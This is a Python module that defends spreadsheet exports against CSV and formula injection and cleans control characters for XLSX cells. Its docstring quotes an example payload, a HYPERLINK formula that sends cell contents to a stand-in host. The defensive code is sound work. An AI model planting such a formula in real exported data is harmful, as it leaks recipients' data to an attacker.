"""Text going into a spreadsheet or a CSV file: always data, never a formula, never refused.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by
Excel, LibreOffice and Google Sheets when a CSV file is opened (CSV injection), and an XLSX
cell whose text starts with `=` is written as a formula by openpyxl. Every text tempcheck writes
to either goes through here, so that a period label, a group's name or a narrative such as
`=HYPERLINK("http://evil.example/?x="&A1,"Click")` reaches the funder as the text it is.

XLSX cannot hold most control characters (openpyxl refuses them); they are shown as the
Unicode control pictures instead (U+240B for a vertical tab), so that stored text always
renders and a report always publishes.
"""

from __future__ import annotations

import re
from typing import Any

# What spreadsheets take as the start of a formula (OWASP's list for CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# The characters XML 1.0, and so XLSX, cannot hold: C0 controls other than tab, newline and
# carriage return.
_NOT_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def csv_cell(value: Any) -> Any:
    """Give a value as a CSV cell no spreadsheet runs as a formula (text gets a leading ')."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def visible_controls(text: str) -> str:
    """Replace each control character an XLSX cell cannot hold with its control picture."""
    return _NOT_IN_XLSX.sub(lambda match: chr(0x2400 + ord(match.group())), text)
